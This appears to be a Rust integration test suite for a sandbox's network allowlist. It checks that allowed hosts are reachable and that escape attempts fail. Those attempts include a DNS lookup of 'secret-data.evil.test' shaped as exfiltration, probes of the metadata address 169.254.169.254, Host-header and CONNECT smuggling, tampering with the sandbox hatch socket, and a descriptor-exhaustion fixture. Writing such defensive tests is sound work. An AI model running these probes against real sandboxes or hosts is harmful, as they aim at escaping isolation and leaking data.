//! Programs that reach listed hosts from containers without a network, by real clients: what is listed first, and then
//! everything that is not.

mod attacks;
mod clients;
mod languages;
mod rebinding;
mod secrets;
mod tenants;
mod world;

use std::fmt::Write as _;

use serde_json::{Value, json};

use self::world::World;
use crate::support::{TestApp, eventually};

/// What every Python program here begins with.
const PYTHON: &str = r#"
import http.client, json, os, socket, ssl, urllib.request
context = ssl.create_default_context(cafile="/data/ca.pem")
def get(address):
    with urllib.request.urlopen(address, context=context, timeout=20) as answer:
        return answer.read().decode()
def tried(act):
    try:
        return act()
    except Exception as error:
        return type(error).__name__
"#;

async fn server(world: &World, more: &[(&str, &str)]) -> TestApp {
    let settings = world.settings();
    let mut settings: Vec<(&str, &str)> = settings
        .iter()
        .map(|(name, value)| (*name, &**value))
        .collect();
    settings.push(("SANDBOX_REUSE", "conversation"));
    settings.extend(more);
    let app = TestApp::on_docker_with(&settings).await;
    app.upload("ca.pem", world.ca.as_bytes()).await;
    app
}

async fn call(app: &TestApp, language: &str, code: &str, more: Value) -> Value {
    let mut arguments =
        json!({ "conversationId": "demo", "language": language, "code": code, "network": true });
    arguments
        .as_object_mut()
        .unwrap()
        .extend(more.as_object().unwrap().clone());
    app.call("run_code", arguments).await
}

async fn python(app: &TestApp, code: &str) -> Value {
    call(app, "python", &format!("{PYTHON}{code}"), json!({})).await
}

/// The hosts of an outcome, one a line, without how many bytes there were.
fn hosts(outcome: &Value) -> String {
    let mut told = String::new();
    for host in outcome["network"]["hosts"]
        .as_array()
        .unwrap_or(&Vec::new())
    {
        let port = host["port"]
            .as_u64()
            .map_or_else(String::new, |port| format!(":{port}"));
        let reason = host["reason"].as_str().unwrap_or("");
        let counts = [&host["connections"], &host["lookups"]].map(|it| it.as_u64().unwrap_or(0));
        writeln!(
            told,
            "{}{port} {} {reason} {counts:?}",
            host["host"].as_str().unwrap(),
            host["verdict"].as_str().unwrap()
        )
        .unwrap();
    }
    told
}

#[tokio::test]
async fn clients_of_docker_images_reach_what_is_listed() {
    let world = World::new().await;
    let app = server(&world, &[]).await;
    let code = r#"
import requests
print(get("https://api.test/urllib"))
print(requests.get("https://other.test/requests", verify="/data/ca.pem", timeout=20).text)
print(get("http://plain.test/http"))
print(len(get("https://API.test/big")))
with socket.create_connection(("db.test", 5432), 20) as connection:
    connection.sendall(b"select 1")
    connection.shutdown(socket.SHUT_WR)
    print(connection.makefile().read())
print(sorted(os.listdir("/sys/class/net")))
"#;
    let outcome = python(&app, code).await;
    assert_eq!(outcome["status"], "ok", "{outcome}");
    insta::assert_snapshot!(outcome["stdout"].as_str().unwrap(), @r"
    api.test /urllib
    other.test /requests
    plain.test /http
    1048576
    select 1
    ['lo']
    ");
    insta::assert_snapshot!(hosts(&outcome), @r"
    api.test:443 allowed  [2, 0]
    db.test:5432 allowed  [1, 0]
    other.test:443 allowed  [1, 0]
    plain.test:80 allowed  [1, 0]
    ");
    let api = &outcome["network"]["hosts"][0];
    assert!(api["receivedBytes"].as_u64().unwrap() > 1 << 20, "{api}");
    let notes = outcome["notes"].to_string();
    insta::assert_snapshot!(notes, @r#"["network: api.test 2 connections, db.test 1 connection, other.test 1 connection, plain.test 1 connection"]"#);
    let code = "
        const ca = await Bun.file('/data/ca.pem').text();
        const answer = await fetch('https://api.test/bun', { tls: { ca } });
        console.log(await answer.text());
        console.log(await (await fetch('http://plain.test/bun')).text());
    ";
    let outcome = call(&app, "typescript", code, json!({})).await;
    assert_eq!(
        outcome["stdout"], "api.test /bun\nplain.test /bun\n",
        "{outcome}"
    );
    let code = "curl -sS --cacert /data/ca.pem https://api.test/curl; echo";
    let outcome = call(&app, "shell", code, json!({})).await;
    assert_eq!(outcome["stdout"], "api.test /curl\n", "{outcome}");
    app.assert_nothing_is_left().await;
}

#[tokio::test]
async fn nothing_else_is_reached_from_docker() {
    let world = World::new().await;
    let app = server(&world, &[]).await;
    // The positive control.
    let outcome = python(&app, "print(get('https://api.test/first'))").await;
    assert_eq!(outcome["stdout"], "api.test /first\n", "{outcome}");
    world.seen();
    let code = r#"
def hello(host, name, port=443):
    raw = socket.create_connection((host, port), 20)
    other = ssl.create_default_context()
    other.check_hostname, other.verify_mode = False, ssl.CERT_NONE
    with other.wrap_socket(raw, server_hostname=name) as connection:
        return connection.version()
def plain(request):
    with socket.create_connection(("plain.test", 80), 20) as connection:
        connection.sendall(request)
        return connection.makefile(errors="replace").readline().strip()
def raw(host, port, data):
    with socket.create_connection((host, port), 20) as connection:
        connection.sendall(data)
        return connection.recv(100)
for act in [
    lambda: get("https://evil.test/"),
    lambda: socket.getaddrinfo("secret-data.evil.test", 443),
    lambda: socket.create_connection(("192.0.2.1", 443), 5),
    lambda: socket.create_connection(("2001:db8::1", 443), 5),
    lambda: socket.create_connection(("169.254.169.254", 80), 5),
    lambda: socket.create_connection(("127.0.0.1", 443), 5),
    lambda: socket.create_connection(("api.test", 80), 5),
    lambda: hello("api.test", "other.test"),
    lambda: hello("api.test", "evil.test"),
    lambda: hello("api.test", None),
    lambda: hello("api.test", "x.api.test"),
    lambda: raw("api.test", 443, b"GET / HTTP/1.1\r\nHost: api.test\r\n\r\n"),
    lambda: get("https://metadata.test/"),
    lambda: get("https://x.wild.test/"),
    lambda: get("https://shut.test/"),
    lambda: plain(b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
    lambda: plain(b"GET / HTTP/1.1\r\n\r\n"),
    lambda: plain(b"GET / HTTP/1.1\r\nHost: plain.test\r\nHost: evil.test\r\n\r\n"),
    lambda: plain(b"GET http://evil.test/ HTTP/1.1\r\nHost: plain.test\r\n\r\n"),
    lambda: plain(b"CONNECT evil.test:443 HTTP/1.1\r\nHost: plain.test\r\n\r\n"),
    lambda: socket.socket(socket.AF_UNIX).connect("/.sandbox-hatch"),
    lambda: os.unlink("/.sandbox-hatch"),
    lambda: socket.create_server(("127.77.0.1", 443)),
    lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).bind(("127.0.0.1", 53)),
]:
    print(tried(act))
# The second request of a connection is looked at, too.
connection = http.client.HTTPConnection("plain.test", 80, timeout=20)
for host in ["plain.test", "evil.test"]:
    connection.request("GET", "/kept", headers={"Host": host})
    answer = connection.getresponse()
    print(answer.status, answer.read())
"#;
    let outcome = python(&app, code).await;
    insta::assert_snapshot!(outcome["stdout"].as_str().unwrap_or(&outcome.to_string()), @r"
    URLError
    gaierror
    OSError
    OSError
    OSError
    ConnectionRefusedError
    ConnectionRefusedError
    SSLEOFError
    SSLEOFError
    SSLEOFError
    SSLEOFError
    b''
    URLError
    URLError
    URLError
    HTTP/1.1 421 Misdirected Request
    HTTP/1.1 421 Misdirected Request
    HTTP/1.1 421 Misdirected Request
    HTTP/1.1 421 Misdirected Request
    HTTP/1.1 421 Misdirected Request
    ConnectionRefusedError
    OSError
    OSError
    OSError
    200 b'plain.test /kept'
    421 b'the request is for another host than its connection'
    ");
    insta::assert_snapshot!(hosts(&outcome), @r"
    (invalid):80 denied host_mismatch [4, 0]
    api.test:443 denied no_sni [1, 0]
    api.test:443 denied not_tls [1, 0]
    evil.test denied not_listed [0, 2]
    evil.test:80 denied host_mismatch [2, 0]
    evil.test:443 denied sni_mismatch [1, 0]
    metadata.test:443 denied private_address [1, 0]
    other.test:443 denied sni_mismatch [1, 0]
    plain.test:80 allowed  [1, 0]
    secret-data.evil.test denied not_listed [0, 2]
    shut.test:443 denied unreachable [1, 0]
    x.api.test:443 denied sni_mismatch [1, 0]
    x.wild.test:443 denied private_address [1, 0]
    ");
    assert_eq!(world.seen(), ["plain.test /kept"]);
    app.assert_nothing_is_left().await;
}

/// Runs with a list are as warm as others, and one without it finds nobody listening, in the same sandbox.
#[tokio::test]
async fn runs_with_listed_hosts_stay_warm_on_docker_and_leave_nothing_open() {
    let world = World::new().await;
    let app = server(&world, &[]).await;
    let mut told = String::new();
    for network in [true, true, false, true] {
        let code = format!("{PYTHON}print(tried(lambda: get('https://api.test/')))");
        let outcome = call(&app, "python", &code, json!({ "network": network })).await;
        writeln!(
            told,
            "{network} {}",
            outcome["stdout"].as_str().unwrap().trim()
        )
        .unwrap();
        eventually("a sandbox waits", || app.app.parts.pool.count().1 > 0).await;
    }
    insta::assert_snapshot!(told, @r"
    true api.test /
    true api.test /
    false URLError
    true api.test /
    ");
    assert_eq!((app.starts("cold"), app.starts("own")), (1, 3));
    assert_eq!(world.open(), 0);
    let code = format!(
        "{PYTHON}held = [socket.create_connection(('db.test', 5432)) for _ in range(20)]\n\
         print(len(held), flush=True)\nos._exit(0)"
    );
    let outcome = call(&app, "python", &code, json!({})).await;
    assert_eq!(outcome["stdout"], "20\n", "{outcome}");
    eventually("the connections are closed", || world.open() == 0).await;
    let look = "print([line for line in open('/proc/net/tcp') if '4D7F:' in line])";
    let outcome = call(&app, "python", look, json!({ "network": false })).await;
    assert_eq!(outcome["stdout"], "[]\n", "{outcome}");
    app.assert_nothing_is_left().await;
}

/// A kernel keeps its connections from one cell to the next, and what is copied belongs to the cell in which it is.
#[tokio::test]
async fn a_kernel_on_docker_keeps_its_listed_hosts() {
    let world = World::new().await;
    let app = server(&world, &[]).await;
    let cells = [
        (
            format!(
                "{PYTHON}open = socket.create_connection(('db.test', 5432))\nopen.send(b'one')\nprint(open.recv(9))"
            ),
            json!({}),
        ),
        (
            "open.send(b'three')\nprint(open.recv(9))".to_owned(),
            json!({}),
        ),
        ("1".to_owned(), json!({ "network": false })),
        ("1".to_owned(), json!({ "hosts": ["api.test"] })),
        (
            format!(
                "{PYTHON}print(tried(lambda: socket.create_connection(('db.test', 5432))), get('https://api.test/'))"
            ),
            json!({ "hosts": ["api.test"], "restart": true }),
        ),
    ];
    let mut told = String::new();
    for (code, mut more) in cells {
        more["stateful"] = true.into();
        let outcome = call(&app, "python", &code, more).await;
        let words = outcome["stdout"]
            .as_str()
            .or(outcome["code"].as_str())
            .unwrap();
        writeln!(told, "{}\n{}", words.trim(), hosts(&outcome)).unwrap();
    }
    insta::assert_snapshot!(told, @r"
    b'one'
    db.test:5432 allowed  [1, 0]

    b'three'
    db.test:5432 allowed  [0, 0]

    kernel_differs

    kernel_differs

    gaierror api.test /
    api.test:443 allowed  [1, 0]
    db.test denied not_listed [0, 2]

    ");
    app.assert_nothing_is_left().await;
}

/// One program that keeps as many descriptors under way as it can must not keep others from handing theirs over: the
/// kernel counts them for the user, whatever container they are of.
#[tokio::test]
async fn programs_on_docker_cannot_keep_others_from_the_network() {
    let world = World::new().await;
    let app = server(&world, &[]).await;
    let attack = include_str!(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/fixtures/attacks/",
        "descriptors_under_way.py"
    ));
    let attacked = call(
        &app,
        "python",
        attack,
        json!({ "conversationId": "attacker", "network": false, "timeoutSeconds": 60 }),
    );
    let others = async {
        let begun = app.workspace("attacker").join("begun");
        eventually("the attack has begun", || begun.exists()).await;
        for number in 0..10 {
            let outcome = python(&app, "print(get('https://api.test/'))").await;
            assert_eq!(outcome["stdout"], "api.test /\n", "{number}: {outcome}");
        }
        std::fs::write(app.workspace("attacker").join("stop"), "").unwrap();
    };
    let (attacked, ()) = tokio::join!(attacked, others);
    assert_eq!(attacked["status"], "ok", "{attacked}");
    let under_way: u64 = attacked["stdout"].as_str().unwrap().trim().parse().unwrap();
    assert!((500..=1500).contains(&under_way), "{under_way}");
    app.assert_nothing_is_left().await;
}

#[tokio::test]
async fn too_much_for_one_run_on_docker_is_cut_off() {
    let world = World::new().await;
    let app = server(
        &world,
        &[("NETWORK_BYTES", "512k"), ("NETWORK_CONNECTIONS", "5")],
    )
    .await;
    let outcome = python(&app, "print(tried(lambda: len(get('https://api.test/big'))), tried(lambda: get('https://api.test/')))").await;
    insta::assert_snapshot!(outcome["stdout"].as_str().unwrap(), @"IncompleteRead URLError");
    insta::assert_snapshot!(hosts(&outcome), @r"
    api.test:443 allowed  [1, 0]
    api.test:443 denied limit [2, 0]
    ");
    let code = "\
        many = [socket.create_connection(('db.test', 5432)) for _ in range(8)]\n\
        for one in many: one.settimeout(10)\n\
        def echo(one):\n    one.sendall(b'x'); return one.recv(1)\n\
        print([tried(lambda: echo(one)) for one in many].count(b'x'))";
    let outcome = python(&app, code).await;
    assert_eq!(outcome["stdout"], "5\n", "{outcome}");
    app.assert_nothing_is_left().await;
}
